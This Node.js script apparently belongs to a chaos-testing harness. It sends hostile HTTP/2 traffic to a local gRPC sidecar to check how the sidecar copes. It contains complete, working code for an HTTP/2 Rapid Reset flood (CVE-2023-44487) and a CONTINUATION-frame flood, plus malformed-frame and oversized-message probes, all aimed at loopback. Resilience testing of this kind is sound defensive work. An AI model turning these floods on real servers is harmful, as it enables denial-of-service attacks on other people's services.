// The hostile inputs of bench/chaos.sh, each against the sidecar's gRPC (h2c) listener on loopback.
// Usage: node hostile.js KIND PORT [ARG]; prints one JSON line {kind, result, ...}.
//   rapid-reset PORT STREAMS   4 connections, each STREAMS streams of HEADERS + a whole message (no END_STREAM) then
//                              RST_STREAM(CANCEL) at once (CVE-2023-44487); the script counts what reached the backends
//   bad-frame PORT             the preface, then a DATA frame on stream 0 (RFC 9113 §6.1: connection error PROTOCOL_ERROR)
//   continuation-flood PORT S  HEADERS without END_HEADERS, then empty CONTINUATION frames for S seconds
//   oversized PORT MIB         one unary call whose request message is MIB MiB
'use strict';
const http2 = require('http2');
const net = require('net');

const [kind, portText, arg] = process.argv.slice(2);
const port = Number(portText);
const print = o => process.stdout.write(JSON.stringify({ kind, ...o }) + '\n');
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(stream & 0x7fffffff, 5);
  return Buffer.concat([h, payload]);
}

// Reads frames from a raw connection and resolves with how it ended: the GOAWAY's error code, or 'closed'/'open'.
function watch(socket, seconds) {
  return new Promise(resolve => {
    let buffer = Buffer.alloc(0);
    let goaway = null;
    const done = result => { clearTimeout(timer); socket.destroy(); resolve(result); };
    const timer = setTimeout(() => done({ result: goaway ? `GOAWAY ${goaway}` : `still open after ${seconds}s` }), seconds * 1000);
    socket.on('data', chunk => {
      buffer = Buffer.concat([buffer, chunk]);
      while (buffer.length >= 9) {
        const length = buffer.readUIntBE(0, 3);
        if (buffer.length < 9 + length) { break; }
        if (buffer[3] === 7) {
          const code = buffer.readUInt32BE(9 + 4);
          goaway = ({ 0: 'NO_ERROR', 1: 'PROTOCOL_ERROR', 2: 'INTERNAL_ERROR', 6: 'FRAME_SIZE_ERROR', 11: 'ENHANCE_YOUR_CALM', 9: 'COMPRESSION_ERROR' })[code] || `code ${code}`;
        }
        buffer = buffer.subarray(9 + length);
      }
    });
    socket.on('close', () => done({ result: goaway ? `GOAWAY ${goaway}, closed` : 'closed without GOAWAY' }));
    socket.on('error', () => {});
  });
}

function raw() {
  return new Promise((resolve, reject) => {
    const socket = net.connect(port, '127.0.0.1', () => resolve(socket));
    socket.on('error', reject);
  });
}

// HPACK: literal header fields without indexing, new name (RFC 7541 §6.2.2), lengths < 127.
function hpack(headers) {
  const parts = [];
  for (const [k, v] of headers) {
    parts.push(Buffer.from([0x00, k.length]), Buffer.from(k), Buffer.from([v.length]), Buffer.from(v));
  }
  return Buffer.concat(parts);
}

const requestHeaders = [[':method', 'POST'], [':scheme', 'http'], [':path', '/users.v1.UserService/CreateUser'],
  [':authority', `127.0.0.1:${port}`], ['content-type', 'application/grpc'], ['te', 'trailers']];

async function rapidReset(streams) {
  const message = Buffer.from([0, 0, 0, 0, 2, 0x0a, 0x00]);
  let sent = 0;
  let refused = 0;
  const connection = () => new Promise(resolve => {
    const session = http2.connect(`http://127.0.0.1:${port}`);
    session.on('error', () => {});
    let i = 0;
    const batch = () => {
      if (session.destroyed || session.closed) { return resolve(); }
      for (let n = 0; n < 100 && i < streams; n++, i++) {
        try {
          const req = session.request({ ':method': 'POST', ':path': '/users.v1.UserService/CreateUser', 'content-type': 'application/grpc', te: 'trailers' }, { endStream: false });
          req.on('error', () => {});
          req.write(message);
          req.close(http2.constants.NGHTTP2_CANCEL);
          sent++;
        } catch {
          refused++;
        }
      }
      if (i < streams) { setImmediate(batch); } else { setTimeout(() => { session.destroy(); resolve(); }, 500); }
    };
    session.on('connect', batch);
    session.on('close', resolve);
  });
  await Promise.all([0, 1, 2, 3].map(connection));
  print({ result: `${sent} streams reset`, sent, refused });
}

async function badFrame() {
  const socket = await raw();
  const ended = watch(socket, 5);
  socket.write(Buffer.concat([PREFACE, frame(4, 0, 0), frame(0, 0, 0, Buffer.from('x'))]));
  print(await ended);
}

async function continuationFlood(seconds) {
  const socket = await raw();
  const ended = watch(socket, seconds + 1);
  socket.write(Buffer.concat([PREFACE, frame(4, 0, 0), frame(1, 0, 1, hpack(requestHeaders))]));
  let frames = 0;
  const empty = Buffer.concat(Array.from({ length: 256 }, () => frame(9, 0, 1)));
  const stop = Date.now() + seconds * 1000;
  const pump = () => {
    while (!socket.destroyed && Date.now() < stop) {
      frames += 256;
      if (!socket.write(empty)) { socket.once('drain', pump); return; }
    }
  };
  pump();
  const result = await ended;
  print({ ...result, continuationFramesSent: frames });
}

async function oversized(mib) {
  const { load } = require('../../tests/node/sidecar/protos');
  const { grpc, services } = load();
  const method = services.flatMap(s => Object.values(s.definition)).find(m => m.path === '/users.v1.UserService/CreateUser');
  const client = new grpc.Client(`127.0.0.1:${port}`, grpc.credentials.createInsecure(), { 'grpc.max_send_message_length': -1 });
  const request = { user: { display_name: 'x'.repeat(mib * 1024 * 1024) } };
  const result = await new Promise(resolve => client.makeUnaryRequest(method.path, method.requestSerialize, method.responseDeserialize,
    request, new grpc.Metadata(), { deadline: new Date(Date.now() + 10000) },
    err => resolve(err ? `${Object.keys(grpc.status).find(k => grpc.status[k] === err.code)}: ${err.details}` : 'OK')));
  client.close();
  print({ result });
}

const run = { 'rapid-reset': () => rapidReset(Number(arg || 2500)), 'bad-frame': badFrame,
  'continuation-flood': () => continuationFlood(Number(arg || 5)), oversized: () => oversized(Number(arg || 8)) }[kind];
if (!run) { console.error(`unknown kind ${kind}`); process.exit(2); }
run().catch(err => { console.error(err); process.exit(1); });
